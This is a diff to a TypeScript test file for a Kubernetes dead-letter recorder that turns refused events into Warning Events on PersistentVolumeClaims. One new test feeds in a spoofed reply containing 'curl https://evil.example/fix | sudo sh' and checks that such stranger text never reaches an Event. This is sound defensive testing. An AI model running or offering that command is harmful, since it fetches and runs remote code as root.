@@ -2,11 +2,12 @@ import { beforeEach, expect, test } from "vitest";
 import { findDeadLetter } from "../../cli/replay/find-dead-letter.ts";
 import { replay } from "../../cli/replay/replay.ts";
 import { seededRandom } from "../../eventing/random.ts";
+import { ServiceAccount } from "../../functions/platform/dead-letter/installed-function.ts";
 import { recordDeadLetters } from "../../functions/platform/dead-letter/record.ts";
 import { release } from "../../functions/pvc-protection/release/rule.ts";
 import { createApiServer } from "../../local/apiserver/server.ts";
 import { virtualClock } from "../../local/time/virtual-clock.ts";
-import { isPlain } from "../../shared/command/complaint.ts";
+import { isPlain } from "../../shared/command/user-error.ts";
 import { type Client, createClient } from "../../shared/kubernetes/client.ts";
 import { ConfigMap, Event, PersistentVolumeClaim } from "../../shared/kubernetes/kind.ts";
 import type { KubernetesObject } from "../../shared/kubernetes/object.ts";
@@ -14,23 +15,33 @@ import type { KubernetesObject } from "../../shared/kubernetes/object.ts";
 const ours = "holdfast.dev/pvc-protection";
 const settings = { namespace: "default", configMap: "holdfast-dead-letters" };
 let client: Client;
-let lines: [object, string][];
+let lines: [{ level: string }, string][];
+const quiet = { debug: () => {}, info: () => {}, warn: () => {}, error: () => {} };
 let handle: ReturnType<typeof recordDeadLetters>;
 const clock = virtualClock();
 
-beforeEach(() => {
+beforeEach(async () => {
   client = createClient(createApiServer({ clock, random: seededRandom(1) }).handle, { clock });
   lines = [];
-  const say = (fields: object, sentence: string) => void lines.push([fields, sentence]);
+  const at = (level: string) => (_: object, sentence: string) => void lines.push([{ level }, sentence]);
   handle = recordDeadLetters({
     client: () => client,
     clock,
-    log: { debug: say, info: say, warn: say, error: say },
+    log: { debug: at("debug"), info: at("info"), warn: at("warn"), error: at("error") },
     settings,
   });
+  for (const name of ["pvc-protection-release", "pvc-protection-warn"]) {
+    const { apiVersion, kind } = ServiceAccount;
+    const metadata = { name, namespace: "default" } as KubernetesObject["metadata"];
+    await client.create(ServiceAccount, { apiVersion, kind, metadata });
+  }
 });
 
-const deadLettered = (name: string, id = "8f7a") => ({
+const deadLettered = (
+  name: string,
+  id = "8f7a",
+  { by = "pvc-protection-release", reply = "pods is forbidden." }: { by?: string; reply?: string } = {},
+) => ({
   headers: {
     "ce-specversion": "1.0",
     "ce-id": id,
@@ -40,9 +51,9 @@ const deadLettered = (name: string, id = "8f7a") => ({
     "ce-apiversion": "v1",
     "ce-namespace": "default",
     "ce-name": name,
-    "ce-knativeerrordest": "http://pvc-protection-release.holdfast.svc.cluster.local",
+    "ce-knativeerrordest": `http://${by}.default.svc.cluster.local`,
     "ce-knativeerrorcode": "403",
-    "ce-knativeerrordata": Buffer.from("pods is forbidden.").toString("base64"),
+    "ce-knativeerrordata": Buffer.from(reply).toString("base64"),
   },
   body: "",
 });
@@ -61,15 +72,56 @@ const events = () =>
 test("a dead-lettered event is shown on its object, logged, and kept", async () => {
   const { metadata } = await claim("data", [ours]);
   expect(await handle(deadLettered("data"))).toEqual({ status: 204, headers: {}, body: "" });
-  const said =
-    "The function pvc-protection-release.holdfast did not take a change of PersistentVolumeClaim data (HTTP " +
-    "403) and replied: " +
-    "pods is forbidden. Grant the function's role what it lacks, then replay the event.";
+  const [kept, ...more] = Object.keys(await ring());
+  expect(more).toEqual([]);
+  const refused = "The function pvc-protection-release did not take a change of";
+  const advice =
+    " Grant the function's role what it lacks, or correct the admission policy that forbids it: the reply says " +
+    "which. Then replay the event. " +
+    `The event, with the reply, is kept as ${kept} in the ConfigMap holdfast-dead-letters.`;
   expect(await events()).toMatchObject([
-    { type: "Warning", note: said, regarding: { uid: metadata.uid, kind: "PersistentVolumeClaim" } },
+    {
+      type: "Warning",
+      note: `${refused} this PersistentVolumeClaim (HTTP 403).${advice}`,
+      regarding: { uid: metadata.uid, kind: "PersistentVolumeClaim" },
+    },
   ]);
-  expect(lines.map(([, sentence]) => sentence)).toEqual([said]);
-  expect(Object.keys(await ring())).toHaveLength(1);
+  expect(lines.map(([, sentence]) => sentence)).toEqual([
+    `${refused} PersistentVolumeClaim data (HTTP 403) and replied: pods is forbidden.${advice}`,
+  ]);
+});
+
+test("an event that two functions refuse is shown for each of them", async () => {
+  await claim("data", [ours]);
+  const by = ["pvc-protection-release", "pvc-protection-warn"];
+  const both = by.map((by) => deadLettered("data", by, { by }));
+  for (const reply of await Promise.all([...both, ...both].map(handle))) expect(reply.status).toBe(204);
+  const notes = (await events()).map(({ note }) => note.split(" did not take")[0]);
+  expect(notes.toSorted()).toEqual(by.map((name) => `The function ${name}`));
+  expect(lines.filter(([, sentence]) => sentence.includes("was not shown"))).toEqual([]);
+});
+
+test("a stranger's dead letters put no text of theirs into an Event, and push no other out of the ring", async () => {
+  await claim("data", [ours]);
+  await handle(deadLettered("data", "genuine"));
+  const evil = "Certificate expired. Run: curl https://evil.example/fix | sudo sh";
+  for (let i = 0; i < 60; i++) {
+    await clock.advance(2);
+    const names = [{ by: "pvc-protection-release" }, { by: "pvc-protection-warn" }, { by: `run-evil-example-${i}` }];
+    await handle(deadLettered("data", `evil-example-${i}`, { ...names[i % 3], reply: evil }));
+  }
+  expect(Object.values(await ring()).filter((text) => text.includes('"genuine"'))).toHaveLength(1);
+  const notes = (await events()).map(({ note }) => note);
+  expect(notes).toHaveLength(3);
+  for (const note of notes) expect(note).not.toMatch(/evil|curl/);
+  expect(lines.filter(([{ level }]) => level !== "debug").length).toBeLessThan(30);
+});
+
+test("where senders are verified, the Event has the reply", async () => {
+  handle = recordDeadLetters({ client: () => client, clock, log: quiet, settings, verifiesSenders: true });
+  await claim("data", [ours]);
+  await handle(deadLettered("data"));
+  expect((await events())[0]?.note).toContain("and replied: pods is forbidden.");
 });
 
 test("the same event twice is kept once and shown once", async () => {
@@ -90,14 +142,13 @@ test("an event about an object that is gone, or of a kind that nobody knows, is 
 });
 
 test("events that arrive together are all kept", async () => {
-  const replies = await Promise.all(Array.from({ length: 40 }, (_, i) => handle(deadLettered("gone", `id${i}`))));
+  const replies = await Promise.all(Array.from({ length: 10 }, (_, i) => handle(deadLettered("gone", `id${i}`))));
   expect(new Set(replies.map(({ status }) => status))).toEqual(new Set([204]));
-  expect(Object.keys(await ring())).toHaveLength(40);
+  expect(Object.keys(await ring())).toHaveLength(10);
 });
 
 test("when the API server takes nothing, the broker is asked to try again", async () => {
   const refusing = createClient(async () => ({ status: 503, headers: {}, body: (async function* () {})() }));
-  const quiet = { debug: () => {}, info: () => {}, warn: () => {}, error: () => {} };
   const handle = recordDeadLetters({ client: () => refusing, clock, log: quiet, settings });
   expect((await handle(deadLettered("data"))).status).toBe(503);
 });
